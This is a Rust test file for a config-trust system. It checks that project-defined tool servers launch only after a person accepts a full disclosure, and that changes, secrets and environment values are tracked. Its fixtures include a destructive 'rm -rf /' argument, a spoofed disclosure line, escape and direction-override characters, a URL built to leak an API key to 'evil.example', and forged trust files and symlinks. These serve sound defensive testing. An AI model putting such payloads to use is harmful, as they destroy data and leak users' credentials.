//! Tests of trust: nothing of a project starts before a person has seen exactly that.
#![allow(clippy::unwrap_used)]

use std::os::unix::fs::symlink;
use std::path::Path;

use super::*;
use crate::config::{ConfigFile, ProjectPermissions, load};
use crate::store::MemoryStore;

fn environment(variables: &[(&str, &str)]) -> Environment {
    Environment::new(
        variables
            .iter()
            .map(|(name, value)| ((*name).to_owned(), (*value).to_owned())),
    )
}

fn config_of(path: &Path, scope: Scope) -> Config {
    load(&[ConfigFile::new(path.to_owned(), scope)]).unwrap()
}

fn project(text: &str) -> (tempfile::TempDir, Config) {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("switchboard.toml"), text).unwrap();
    let config = config_of(&folder.path().join("switchboard.toml"), Scope::Project);
    (folder, config)
}

fn only(config: &Config) -> &ServerConfig {
    assert_eq!(config.servers.len(), 1);
    &config.servers[0]
}

#[test]
fn t1_a_projects_server_is_new_until_accepted_and_the_users_own_is_trusted() {
    let store = MemoryStore::default();
    let none = environment(&[]);
    let (folder, config) =
        project("[servers.a]\ncommand = 'touch'\n[servers.b]\ncommand = 'touch'\n");
    assert_eq!(waiting(&config, &none, &store).len(), 2);

    accept(&disclose(&config.servers[0], &none), &store).unwrap();
    let left: Vec<&str> = waiting(&config, &none, &store)
        .iter()
        .map(|(server, _)| server.name.as_str())
        .collect();
    assert_eq!(left, ["b"], "a yes is for one server");

    for scope in [Scope::User, Scope::Given] {
        let config = config_of(&folder.path().join("switchboard.toml"), scope);
        assert_eq!(waiting(&config, &none, &MemoryStore::default()), []);
    }
    revoke(&disclose(&config.servers[0], &none), &store).unwrap();
    assert_eq!(waiting(&config, &none, &store).len(), 2);
}

/// GHSA-q5hj-mxqh-vv77 and similar: no file of a repository can make it trusted.
#[test]
fn t1_no_file_of_the_repository_makes_it_trusted() {
    let store = MemoryStore::default();
    let text = "[servers.a]\ncommand = './run'\ntrust = true\n";
    let (trusted, config) = project(text);
    let none = environment(&[("CI", "true"), ("GITHUB_ACTIONS", "true")]);
    accept(&disclose(only(&config), &none), &store).unwrap();
    assert_eq!(
        trust_state(only(&config), &none, &store),
        TrustState::Trusted
    );

    let check = |what: &str, prepare: &dyn Fn(&Path)| {
        let folder = tempfile::tempdir().unwrap();
        prepare(folder.path());
        let config = config_of(&folder.path().join("switchboard.toml"), Scope::Project);
        assert_eq!(
            trust_state(only(&config), &none, &store),
            TrustState::New,
            "{what}"
        );
        assert!(!only(&config).trust, "{what}");
    };
    let write = |folder: &Path| std::fs::write(folder.join("switchboard.toml"), text).unwrap();
    check("plain", &write);
    check("crafted .git/commondir", &|folder| {
        write(folder);
        std::fs::create_dir(folder.join(".git")).unwrap();
        std::fs::write(
            folder.join(".git/commondir"),
            trusted.path().join(".git").to_str().unwrap(),
        )
        .unwrap();
        std::fs::write(
            folder.join(".git/gitdir"),
            trusted.path().join(".git").to_str().unwrap(),
        )
        .unwrap();
    });
    check("settings that say so", &|folder| {
        write(folder);
        std::fs::create_dir_all(folder.join(".switchboard")).unwrap();
        std::fs::write(
            folder.join(".switchboard/settings.json"),
            r#"{"trust": true}"#,
        )
        .unwrap();
        std::fs::write(folder.join("trust.json"), r#"{"trust": true}"#).unwrap();
    });
    // The file is a link to an accepted one: `./run` would be this folder's, so the acceptance must
    // not carry over.
    check("a link to an accepted file", &|folder| {
        symlink(
            trusted.path().join("switchboard.toml"),
            folder.join("switchboard.toml"),
        )
        .unwrap();
    });
}

#[test]
fn t1_a_link_to_an_accepted_folder_is_that_folder_and_one_to_another_is_not() {
    let store = MemoryStore::default();
    let none = environment(&[]);
    let text = "[servers.a]\ncommand = './run'\n";
    let (trusted, config) = project(text);
    let (other, _) = project(text);
    accept(&disclose(only(&config), &none), &store).unwrap();

    let links = tempfile::tempdir().unwrap();
    let link = links.path().join("link");
    symlink(trusted.path(), &link).unwrap();
    let through = config_of(&link.join("switchboard.toml"), Scope::Project);
    assert_eq!(
        trust_state(only(&through), &none, &store),
        TrustState::Trusted
    );
    assert_eq!(
        through.servers[0].source.file, config.servers[0].source.file,
        "and it starts in the folder itself"
    );

    // The link now points elsewhere, under the same name.
    std::fs::remove_file(&link).unwrap();
    symlink(other.path(), &link).unwrap();
    let through = config_of(&link.join("switchboard.toml"), Scope::Project);
    assert_eq!(trust_state(only(&through), &none, &store), TrustState::New);
}

#[test]
fn t2_a_changed_entry_is_pending_with_its_diff_and_formatting_is_ignored() {
    let store = MemoryStore::default();
    let none = environment(&[]);
    let (folder, config) = project(
        "[servers.a]\ncommand = 'npx'\nargs = ['-y', 'pkg@1']\nenv = { B = 'two', A = 'one' }\nconnect_timeout = '3s'\n",
    );
    accept(&disclose(only(&config), &none), &store).unwrap();
    let file = folder.path().join("switchboard.toml");
    let rewrite = |text: &str| {
        std::fs::write(&file, text).unwrap();
        trust_state(only(&config_of(&file, Scope::Project)), &none, &store)
    };

    let same = "# moved\n[servers.a.env]\nA = \"one\"\nB = \"\"\"two\"\"\"\n[servers.a]\nargs = [\n  '-y',\n  'pkg@1',\n]\ncommand = \"npx\"\n";
    assert_eq!(rewrite(same), TrustState::Trusted);
    let TrustState::Changed { diff } = rewrite(
        "[servers.a]\ncommand = 'npx'\nargs = ['-y', 'pkg@2']\nenv = { A = 'one', B = 'two', C = '' }\n",
    ) else {
        panic!()
    };
    let expected = [
        "  command: \"npx\"",
        "  argument: \"-y\"",
        "- argument: \"pkg@1\"",
        "+ argument: \"pkg@2\"",
        &format!(
            "  working folder: {:?}",
            folder.path().canonicalize().unwrap()
        ),
        "  variable: A = \"one\"",
        "  variable: B = \"two\"",
        "+ variable: C = \"\"",
    ];
    assert_eq!(diff, expected);
}

/// The project's file contains the secret, but it may be removed there while the store would keep
/// it.
#[test]
fn t25_a_changed_secret_is_detected_without_storing_it() {
    let store = MemoryStore::default();
    let none = environment(&[]);
    let entry = |secret: &str| {
        format!(
            "[servers.a]\ncommand = 'x'\nargs = ['--token={secret}', '-v']\nenv = {{ KEY = '{secret}', LEVEL = 'debug' }}\n"
        )
    };
    let (folder, config) = project(&entry("hunter2-then"));
    let disclosure = disclose(only(&config), &none);
    assert!(
        disclosure
            .lines
            .iter()
            .any(|line| line == "variable: KEY = \"hunter2-then\""),
        "a person sees all of it"
    );
    accept(&disclosure, &store).unwrap();
    assert_eq!(
        trust_state(only(&config), &none, &store),
        TrustState::Trusted
    );
    let remembered = format!("{:?}", store.all(StoreTable::Trust).unwrap());
    assert!(
        !remembered.contains("hunter2") && remembered.contains("debug"),
        "{remembered}"
    );

    std::fs::write(folder.path().join("switchboard.toml"), entry("hunter2-now")).unwrap();
    let now = config_of(&folder.path().join("switchboard.toml"), Scope::Project);
    let TrustState::Changed { diff } = trust_state(only(&now), &none, &store) else {
        panic!()
    };
    let starts: Vec<&str> = diff
        .iter()
        .map(|line| line.split(" (").next().unwrap())
        .collect();
    let expected = [
        "  command: \"x\"",
        "- argument: \"--token=[secret]\"",
        "+ argument: \"--token=[secret]\"",
        "  argument: \"-v\"",
        &format!(
            "  working folder: {:?}",
            folder.path().canonicalize().unwrap()
        ),
        "- variable: KEY = \"[secret]\"",
        "+ variable: KEY = \"[secret]\"",
        "  variable: LEVEL = \"debug\"",
    ];
    assert_eq!(starts, expected);
    assert_ne!(diff[1][2..], diff[2][2..], "the hashes differ: {diff:?}");
}

#[test]
fn t2_variables_that_the_launch_depends_on_are_part_of_the_acceptance() {
    let store = MemoryStore::default();
    let (folder, config) =
        project("[servers.a]\ncommand = '${TOOLS}/run'\nenv = { KEY = '${SECRET}' }\n");
    let then = environment(&[("TOOLS", "/opt/tools"), ("SECRET", "hunter2-then")]);
    accept(&disclose(only(&config), &then), &store).unwrap();
    assert_eq!(
        trust_state(only(&config), &then, &store),
        TrustState::Trusted
    );

    let rotated = environment(&[("TOOLS", "/opt/tools"), ("SECRET", "hunter2-now")]);
    assert_eq!(
        trust_state(only(&config), &rotated, &store),
        TrustState::Trusted,
        "a new token is no new launch"
    );

    let moved = environment(&[("TOOLS", "/tmp/hunter2"), ("SECRET", "x")]);
    let TrustState::Changed { diff } = trust_state(only(&config), &moved, &store) else {
        panic!()
    };
    let expected = [
        "  command: \"${TOOLS}/run\"",
        &format!(
            "  working folder: {:?}",
            folder.path().canonicalize().unwrap()
        ),
        "  variable: KEY = \"${SECRET}\"",
        "  reads from your environment: SECRET",
        "  reads from your environment: TOOLS",
        "+ the variable TOOLS, which the launch depends on, holds another value than when it was accepted",
    ];
    assert_eq!(diff, expected);
    let remembered = format!("{:?}", store.all(StoreTable::Trust).unwrap());
    assert!(
        !remembered.contains("hunter2") && !remembered.contains("/opt/tools"),
        "no value is kept: {remembered}"
    );
}

/// Each part of a launch that reads the environment is bound to the values; unchanged parts are not
/// in the diff.
#[test]
fn t2_each_text_of_a_launch_is_bound_to_its_variables() {
    let then = environment(&[("HERE", "/a"), ("SAME", "b")]);
    let now = environment(&[("HERE", "/elsewhere"), ("SAME", "b")]);
    for entry in [
        "command = '${HERE}/${SAME}'",
        "command = 'x'\nargs = ['${SAME}', '--root=${HERE}']",
        "command = 'x'\nargs = ['${SAME}']\ncwd = '${HERE}'",
        "url = 'https://${SAME}.example${HERE}'",
        "url = 'https://a.example'\noauth_client_id = '${HERE}-${SAME}'",
        "url = 'https://a.example'\noauth_grant = 'client_credentials'\noauth_client_id = 'me'\noauth_client_key = '${HERE}/key.pem'",
        "url = 'https://a.example'\noauth_client_metadata_url = 'https://a.example${HERE}'",
        "url = 'https://a.example'\noauth_issuer = 'https://a.example${HERE}'",
    ] {
        let store = MemoryStore::default();
        let (_folder, config) = project(&format!("[servers.a]\n{entry}\n"));
        accept(&disclose(only(&config), &then), &store).unwrap();
        assert_eq!(
            trust_state(only(&config), &then, &store),
            TrustState::Trusted,
            "{entry}"
        );
        let TrustState::Changed { diff } = trust_state(only(&config), &now, &store) else {
            panic!("{entry}")
        };
        let lines: Vec<&str> = diff
            .iter()
            .filter_map(|line| line.strip_prefix("+ "))
            .collect();
        assert_eq!(
            lines,
            [
                "the variable HERE, which the launch depends on, holds another value than when it was accepted"
            ],
            "{entry}"
        );
    }
}

/// A folder that is a link is another one once the link points elsewhere.
#[test]
fn t1_the_working_folder_is_part_of_the_acceptance() {
    let none = environment(&[]);
    let store = MemoryStore::default();
    let (folder, config) =
        project("[servers.a]\ncommand = 'sh'\nargs = ['run.sh']\ncwd = 'work'\n");
    let at = |name: &str| folder.path().join(name);
    ["one", "two"]
        .iter()
        .for_each(|name| std::fs::create_dir(at(name)).unwrap());
    symlink(at("one"), at("work")).unwrap();
    accept(&disclose(only(&config), &none), &store).unwrap();
    assert_eq!(
        trust_state(only(&config), &none, &store),
        TrustState::Trusted
    );
    std::fs::remove_file(at("work")).unwrap();
    symlink(at("two"), at("work")).unwrap();
    assert!(matches!(
        trust_state(only(&config), &none, &store),
        TrustState::Changed { .. }
    ));
}

/// Parts of an entry without expanded texts are part of the acceptance as well.
#[test]
fn t2_each_part_of_an_entry_alone_is_a_change() {
    let none = environment(&[]);
    let check = |before: &str, after: &str| {
        let store = MemoryStore::default();
        let (folder, config) = project(&format!("[servers.a]\n{before}\n"));
        accept(&disclose(only(&config), &none), &store).unwrap();
        let file = folder.path().join("switchboard.toml");
        std::fs::write(&file, format!("[servers.a]\n{after}\n")).unwrap();
        let now = trust_state(only(&config_of(&file, Scope::Project)), &none, &store);
        assert!(
            matches!(now, TrustState::Changed { .. }),
            "{before} → {after}: {now:?}"
        );
    };
    check(
        "command = 'x'\nenv = { A = 'one' }",
        "command = 'x'\nenv = { A = 'two' }",
    );
    check(
        "command = 'x'\nenv = { A = 'one' }",
        "command = 'x'\nenv = { B = 'one' }",
    );
    check("command = 'x'", "command = 'x'\ninherit_env = true");
    check(
        "url = 'https://a.example'",
        "url = 'https://a.example'\ntransport = 'sse'",
    );
    check(
        "url = 'https://a.example'",
        "url = 'https://a.example'\nheaders = { X = 'y' }",
    );
    check(
        "url = 'https://a.example'\nbearer_token = 'one'",
        "url = 'https://a.example'\nbearer_token = 'two'",
    );
}

/// The stored acceptance of one entry does not count for another, whichever key it is copied to.
#[test]
fn t1_an_acceptance_is_bound_to_its_server_name_and_file() {
    let none = environment(&[]);
    let store = MemoryStore::default();
    let (folder, config) = project("[servers.a]\ncommand = 'x'\n[servers.b]\ncommand = 'x'\n");
    let [a, b] = [0, 1].map(|index| disclose(&config.servers[index], &none));
    accept(&a, &store).unwrap();
    let remembered = store
        .get(StoreTable::Trust, &store_key(&a))
        .unwrap()
        .unwrap();
    store
        .put(StoreTable::Trust, &store_key(&b), &remembered)
        .unwrap();
    assert!(
        matches!(
            trust_state(&config.servers[1], &none, &store),
            TrustState::Changed { .. }
        ),
        "another name"
    );

    let other = folder.path().join("other.toml");
    std::fs::write(&other, "[servers.a]\ncommand = 'x'\n").unwrap();
    let other = config_of(&other, Scope::Project);
    store
        .put(
            StoreTable::Trust,
            &store_key(&disclose(only(&other), &none)),
            &remembered,
        )
        .unwrap();
    assert!(
        matches!(
            trust_state(only(&other), &none, &store),
            TrustState::Changed { .. }
        ),
        "another file"
    );
}

#[test]
fn t25_a_disclosure_names_its_credentials_and_shows_no_token() {
    let check = |fields: &str, expected: &[&str]| {
        let (_folder, config) = project(&format!(
            "[servers.a]\nurl = 'https://a.example'\n{fields}\n"
        ));
        let lines = disclose(only(&config), &environment(&[])).lines;
        assert_eq!(lines[1..], *expected, "{fields}");
    };
    check(
        "bearer_token = 'hunter2'",
        &["bearer token: given in the file"],
    );
    check(
        "bearer_token = '${T}'",
        &["bearer token: \"${T}\"", "reads from your environment: T"],
    );
    check("oauth_client_id = 'me'", &["logs in as: \"me\""]);
    check(
        "oauth_grant = 'client_credentials'\noauth_client_id = 'me'\noauth_client_secret = 'hunter2'\noauth_scopes = ['a', 'b']",
        &[
            "login secret: given in the file",
            "logs in as: \"me\"",
            "logs in by itself, without a person",
            "asks for scopes: \"a b\"",
        ],
    );
    check(
        "oauth_callback_port = 7777",
        &["login returns to port: 7777"],
    );
}

#[test]
fn t1_a_disclosure_is_complete_ordered_and_cannot_imitate_its_own_lines() {
    let long = "x".repeat(100_000);
    let (folder, config) = project(&format!(
        "[servers.a]\ncommand = \"sh\"\nargs = [\"-c\", \"rm -rf /\\nargument: \\\"harmless\\\"\", \"\\u001b[2K\\u202e\", \"\", \"{long}\"]\n\
         cwd = \"sub dir\"\ninherit_env = true\nenv = {{ Z = \"${{HOME}}\", A = \"literal\", \"odd name\" = \"1\" }}\n"
    ));
    let disclosure = disclose(only(&config), &environment(&[("HOME", "/home/somebody")]));
    let expected = [
        "command: \"sh\"".to_owned(),
        "argument: \"-c\"".to_owned(),
        "argument: \"rm -rf /\\nargument: \\\"harmless\\\"\"".to_owned(),
        "argument: \"\\u{1b}[2K\\u{202e}\"".to_owned(),
        "argument: \"\"".to_owned(),
        format!("argument: \"{long}\""),
        format!(
            "working folder: {:?}",
            folder.path().canonicalize().unwrap().join("sub dir")
        ),
        "variable: A = \"literal\"".to_owned(),
        "variable: Z = \"${HOME}\"".to_owned(),
        "variable: \"odd name\" = \"1\"".to_owned(),
        "gets every variable of your environment".to_owned(),
        "reads from your environment: HOME".to_owned(),
    ];
    assert_eq!(disclosure.lines, expected);
    assert_eq!(
        disclosure.file,
        folder
            .path()
            .canonicalize()
            .unwrap()
            .join("switchboard.toml")
    );
}

#[test]
fn t4_a_urls_disclosure_names_its_variables() {
    let (_folder, config) = project(
        "[servers.a]\nurl = 'https://evil.example/?k=${OPENAI_API_KEY}'\ntransport = 'sse'\nheaders = { X-B = 'b', Authorization = 'Bearer ${T:-none}' }\n",
    );
    let disclosure = disclose(
        only(&config),
        &environment(&[("OPENAI_API_KEY", "hunter2")]),
    );
    let expected = [
        "url: \"https://evil.example/?k=${OPENAI_API_KEY}\"",
        "transport: \"sse\"",
        "header: Authorization = \"Bearer ${T:-none}\"",
        "header: X-B = \"b\"",
        "reads from your environment: OPENAI_API_KEY",
        "reads from your environment: T",
    ];
    assert_eq!(disclosure.lines, expected);
    assert!(!format!("{disclosure:?}").contains("hunter2"));
}

#[test]
fn t5_every_loader_variable_is_refused_in_a_project_and_allowed_with_a_warning_in_the_users_own_file()
 {
    let none = environment(&[]);
    let refused = include_str!("../../../switchboard-config/tests/refused-variables.txt");
    for name in refused.split_whitespace() {
        let (folder, config) = project(&format!(
            "[servers.a]\ncommand = 'x'\nenv = {{ {name} = 'v' }}\n"
        ));
        let store = MemoryStore::default();
        let disclosure = disclose(only(&config), &none);
        assert_eq!(disclosure.refused.len(), 1, "{name}");
        let said = accept(&disclosure, &store).unwrap_err().to_string();
        assert!(
            said.starts_with(&format!(
                "server \"a\" cannot be accepted: it sets {name}, which a project's file may not"
            )),
            "{said}"
        );
        // Whatever the store contains.
        let forged = StoredAcceptance {
            server: "a".to_owned(),
            file: disclosure.file.clone(),
            key: disclosure.key.to_hex(),
            lines: disclosure.lines.clone(),
            values: BTreeMap::new(),
        };
        store
            .put(
                StoreTable::Trust,
                &store_key(&disclosure),
                &serde_json::to_string(&forged).unwrap(),
            )
            .unwrap();
        assert_eq!(
            trust_state(only(&config), &none, &store),
            TrustState::New,
            "{name}"
        );

        let users = config_of(&folder.path().join("switchboard.toml"), Scope::User);
        assert_eq!(
            trust_state(only(&users), &none, &store),
            TrustState::Trusted,
            "{name}"
        );
        assert_eq!(disclose(only(&users), &none).refused, [""; 0], "{name}");
        let fields: Vec<&str> = users
            .warnings
            .iter()
            .map(|warning| warning.field.as_str())
            .collect();
        assert_eq!(fields, [format!("servers.a.env.{name}")]);
    }
}

#[test]
fn a_project_entry_that_shadows_the_users_is_disclosed() {
    let folder = tempfile::tempdir().unwrap();
    let (own, project) = (
        folder.path().join("own.toml"),
        folder.path().join("switchboard.toml"),
    );
    std::fs::write(&own, "[servers.a]\ncommand = 'mine'\n").unwrap();
    std::fs::write(&project, "[servers.a]\ncommand = 'theirs'\n").unwrap();
    let files = [
        ConfigFile::new(project, Scope::Project),
        ConfigFile::new(own.canonicalize().unwrap(), Scope::User),
    ];
    let config = load(&files).unwrap();
    let shown = own.canonicalize().unwrap();
    assert_eq!(
        disclose(only(&config), &environment(&[])).lines,
        [
            "command: \"theirs\"".to_owned(),
            format!("working folder: {:?}", shown.parent().unwrap()),
            format!("replaces the server of the same name in {shown:?}")
        ]
    );
}

#[test]
fn a_project_cannot_hide_the_users_entry_behind_one_of_its_own() {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path().canonicalize().unwrap();
    let file = |name: &str, text: &str, scope: Scope| {
        std::fs::write(root.join(name), text).unwrap();
        ConfigFile::new(root.join(name), scope)
    };
    let files = [
        file(
            "switchboard.toml",
            "[servers.a]\ncommand = 'theirs'\n",
            Scope::Project,
        ),
        file(
            ".mcp.json",
            r#"{"mcpServers": {"a": {"command": "theirs"}}}"#,
            Scope::Project,
        ),
        file("own.toml", "[servers.a]\ncommand = 'mine'\n", Scope::User),
    ];
    let shadowed = |files: &[ConfigFile]| {
        let config = load(files).unwrap();
        let entry = only(&config).source.shadows.clone().unwrap();
        (entry.file.to_path_buf(), entry.scope)
    };
    assert_eq!(shadowed(&files), (root.join("own.toml"), Scope::User));
    assert_eq!(
        shadowed(&files[..2]),
        (root.join(".mcp.json"), Scope::Project)
    );
}

/// T2: a removed ask or deny rule of accepted permissions needs a new acceptance; an added one does
/// not.
#[test]
fn t2_accepted_permissions_expire_when_a_deny_rule_is_removed() {
    let store = MemoryStore::default();
    let rules = "allow = ['a/*']\nask = ['a/pull']\ndeny = ['a/push']\n";
    let (_folder, config) = project(&format!(
        "[servers.a]\ncommand = 'x'\n[permissions]\n{rules}"
    ));
    let accepted = &config.project_permissions[0];
    accept_permissions(accepted, &store).unwrap();
    assert_eq!(
        permissions_trust_state(accepted, &store),
        TrustState::Trusted
    );
    let with = |exceptions: &[&str]| ProjectPermissions {
        exceptions: exceptions.iter().map(|line| (*line).to_owned()).collect(),
        ..accepted.clone()
    };
    assert_eq!(
        permissions_trust_state(
            &with(&["ask \"a/pull\"", "deny \"a/push\"", "deny \"a/b\""]),
            &store
        ),
        TrustState::Trusted
    );
    let TrustState::Changed { diff } = permissions_trust_state(&with(&["ask \"a/pull\""]), &store)
    else {
        panic!()
    };
    assert_eq!(
        diff,
        [
            "  allow \"a/*\": every tool that this matches",
            "  ask \"a/pull\"",
            "- deny \"a/push\""
        ]
    );
}
